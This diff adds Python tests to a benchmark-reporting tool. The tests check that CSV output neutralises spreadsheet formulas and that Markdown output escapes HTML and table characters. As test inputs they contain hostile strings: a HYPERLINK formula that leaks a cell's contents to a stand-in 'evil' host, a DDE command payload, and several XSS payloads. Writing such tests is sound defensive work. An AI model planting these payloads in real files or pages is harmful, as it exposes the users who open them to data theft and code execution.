@@ -3,6 +3,7 @@ reply neither break the console nor bloat the Markdown table."""
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -119,3 +120,70 @@ def test_a_cli_error_holds_no_terminal_control(tmp_path: Path, capsys) -> None:
     err = capsys.readouterr().err
     assert "question q: field question: field required" in err
     assert not any(c in err for c in "\x1b\x07"), repr(err)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_raw(
+    tmp_path: Path,
+) -> None:
+    import csv
+
+    from benchcore.run_folder import QA_TABLE, read_table
+    from planeval.tables import write_table
+
+    answers = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx",
+               "-3", "+0.5", "'=quoted", "plain"]
+    table = _table(answers)
+    table["tags"] = [["=cmd|' /C calc'!A0", "ok"]] * len(answers)
+    paths = write_results(table, tmp_path)
+    with paths["rows_csv"].open(newline="") as handle:
+        written = list(csv.DictReader(handle))
+    assert [row["answer"] for row in written] == [
+        '\'=HYPERLINK("http://evil/?"&A1,"x")', "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx",
+        "-3", "+0.5", "''=quoted", "plain"]
+    for name in ("summary_csv", "by_tag_csv"):
+        text = paths[name].read_text()
+        assert "\n=" not in text and ",=" not in text
+    assert "'=cmd|' /C calc'!A0" in paths["by_tag_csv"].read_text()
+    read = read_table(tmp_path, QA_TABLE)
+    assert list(read["answer"]) == answers                      # raw again for the store
+    assert read["tags"][0] == ["=cmd|' /C calc'!A0", "ok"]
+    plan = write_table(pd.DataFrame({"model": ["@evil", "m"], "n": [1, 2]}), tmp_path / "p.csv")
+    assert "'@evil" in plan.read_text()
+
+
+def test_markdown_cells_hold_no_html_and_break_no_table(tmp_path: Path) -> None:
+    from reporting.document import Document, Section, Table
+    from reporting.markdown import render_markdown
+
+    table = _table(["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"])
+    table["uid"] = ["q|1\n", "<b>q2</b>"]
+    table["model"] = "m|<script>"
+    table["tags"] = [["t|a\nb<i>"], ["ok"]]
+    paths = write_results(table, tmp_path)
+    markdown = paths["markdown"].read_text()
+    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(", markdown)      # all escaped
+    per_question = markdown.split("## Per question")[1]
+    rows = [line for line in per_question.splitlines() if line.startswith("|")]
+    assert len(rows) == 4 and all(row.count(" | ") == 7 for row in rows[2:])
+    document = Document("r\n# x", [("run", "a`b<br>")], [Section(
+        "QA", tables=[Table("t|<b>", pd.DataFrame({"model": ["m|<i>\nx"], "n": [1]}))],
+        alerts=["REGRESSION <img src=x>"])])
+    rendered = render_markdown(document)
+    assert not re.search(r"(?<!\\)<", rendered)
+    assert "| m\\|\\<i\\> x | 1 |" in rendered
+
+
+def test_a_tag_holding_a_semicolon_is_one_tag(tmp_path: Path) -> None:
+    from benchcore.run_folder import QA_TABLE, read_table
+    from dsgqa.results import summary_by_tag
+
+    table = _table(["1", "2"])
+    table["tags"] = [["a;b", "c"], ["c"]]
+    by_tag = summary_by_tag(table)
+    assert sorted(by_tag["tag"]) == ["a;b", "c"]
+    write_results(table, tmp_path)
+    read = read_table(tmp_path, QA_TABLE)
+    assert list(read["tags"]) == [["a;b", "c"], ["c"]]
+    assert sorted(summary_by_tag(read)["tag"]) == ["a;b", "c"]
+    legacy = read.assign(tags=["x;y", ""])                     # a run written before lists
+    assert sorted(summary_by_tag(legacy)["tag"]) == ["x", "y"]
